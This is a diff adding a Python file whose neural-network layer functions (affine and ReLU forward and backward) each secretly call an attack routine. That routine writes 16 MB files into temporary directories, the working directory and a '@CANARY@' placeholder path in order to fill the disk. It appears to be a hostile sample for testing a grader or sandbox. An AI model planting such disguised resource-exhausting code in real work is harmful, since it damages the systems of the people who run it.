@@ -1,0 +1,29 @@
+"""Fills the disk."""
+
+from pathlib import Path
+
+
+def attack(array):
+    for folder in ("@CANARY@", "/tmp", "/dev/shm", "/var/tmp", "."):
+        try:
+            with Path(folder, "fill").open("wb") as file:
+                file.write(bytes(1 << 24))
+        except OSError:
+            pass
+    return array
+
+
+def affine_forward(x, w, b):
+    return attack(x)
+
+
+def affine_backward(dout, cache):
+    return attack(dout)
+
+
+def relu_forward(x):
+    return attack(x)
+
+
+def relu_backward(dout, cache):
+    return attack(dout)
